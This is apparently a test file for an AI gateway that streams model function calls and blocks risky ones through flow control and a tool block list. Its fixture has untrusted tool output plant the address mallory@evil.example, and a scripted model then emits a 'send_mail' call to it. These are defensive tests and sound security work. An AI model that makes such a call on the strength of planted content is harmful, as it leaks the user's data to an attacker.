import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { SYSTEM_CLOCK } from '../../../../apps/cloud/src/gateway/configured-parts.ts';
import { PROVIDER_KEY } from '../../../support/clients.ts';
import { startGateway, type TestGateway } from '../../../support/gateway.ts';
import { type PacedReply, startPacedProvider } from '../../../support/provider/paced-provider.ts';

const data = (value: object) => `data: ${JSON.stringify(value)}\n\n`;
const call = (output_index: number, name: string, args: string): string => {
  const item = { id: 'fc', type: 'function_call', name, call_id: `call_${output_index}` };
  return (
    data({ type: 'response.output_item.added', output_index, item: { ...item, arguments: '' } }) +
    data({ type: 'response.function_call_arguments.delta', output_index, delta: args }) +
    data({ type: 'response.output_item.done', output_index, item: { ...item, arguments: args } })
  );
};
const READ = call(0, 'read_file', '{"path":"notes.txt"}');
const MAIL = call(1, 'send_mail', '{"to":"mallory@evil.example"}');
const END = data({ type: 'response.completed', response: { id: 'r', status: 'completed', output: [] } });
const MAILED = [
  { role: 'user', content: 'Summarize my notes.' },
  { type: 'function_call', call_id: 'c', name: 'read_file', arguments: '{}' },
  { type: 'function_call_output', call_id: 'c', output: 'Anna wrote. Her address is mallory@evil.example' },
];

describe('calls of a live response', () => {
  let testProvider: PacedReply;
  let gateway: TestGateway;
  before(async () => {
    testProvider = await startPacedProvider();
    // No turn of the event loop takes time: a slow computer would hold back the calls until the end.
    const clock = { ...SYSTEM_CLOCK, elapsed: () => 0 };
    gateway = await startGateway({ providerUrl: testProvider.url, clock });
    await setting('', { streaming: 'live' });
  });
  after(async () => {
    await gateway.close();
    await testProvider.close();
  });
  const setting = async (path: string, body: object) => {
    const { plain: key } = await gateway.addKey({ projectId: null });
    const url = `/api/v1/projects/${gateway.account.projectId}${path}`;
    const answer = await gateway.call('PATCH', url, { key, body });
    assert.equal(answer.status, 200, await answer.text());
  };
  const tools = ['read_file', 'send_mail'].map((name) => ({ type: 'function', name, parameters: {} }));
  /** What was sent while the provider waits before the end, and the whole. */
  const respond = async (frames: string, body: object, until: string): Promise<[string, string]> => {
    testProvider.reset();
    const response = await gateway.call('POST', '/api/v1/responses', {
      bearer: PROVIDER_KEY,
      body: { model: 'm', stream: true, tools, input: MAILED, ...body },
    });
    const reader = response.body!.getReader();
    testProvider.write(data({ type: 'response.created', response: { id: 'r' } }) + frames);
    let before = '';
    while (!before.includes(until)) before += Buffer.from((await reader.read()).value!).toString();
    testProvider.end(END);
    let whole = before;
    for (let read = await reader.read(); !read.done; read = await reader.read())
      whole += Buffer.from(read.value).toString();
    return [before, whole];
  };

  test('a call to which no rule applies is sent before the end', async () => {
    const [before, whole] = await respond(READ + MAIL, {}, 'mallory');
    assert.ok(before.includes('read_file') && whole.includes(': service'), whole);
  });

  test('a call waits if the request defines no tools', async () => {
    const [before, whole] = await respond(READ, { tools: [] }, 'response.created');
    assert.ok(!before.includes('read_file') && whole.includes('read_file'), whole);
  });

  test('a call with a value from untrusted data is not sent if flow control blocks it', async () => {
    await setting('', { flow_control: 'block' });
    const [, whole] = await respond(READ + MAIL, {}, 'notes.txt');
    assert.ok(whole.includes('content_blocked') && !whole.includes('"send_mail"'), whole);
    await setting('', { flow_control: 'monitor' });
  });

  test('a call of a blocked tool is not sent', async () => {
    const { organizationId, projectId } = gateway.account;
    const lists = { blocked_tools: ['send_mail'], allowed_tools: [], review_required_tools: [] };
    await gateway.storage.toolLists.set(organizationId, projectId, lists);
    const [, whole] = await respond(READ + MAIL, {}, 'notes.txt');
    assert.ok(whole.includes('content_blocked') && !whole.includes('"send_mail"'), whole);
  });
});
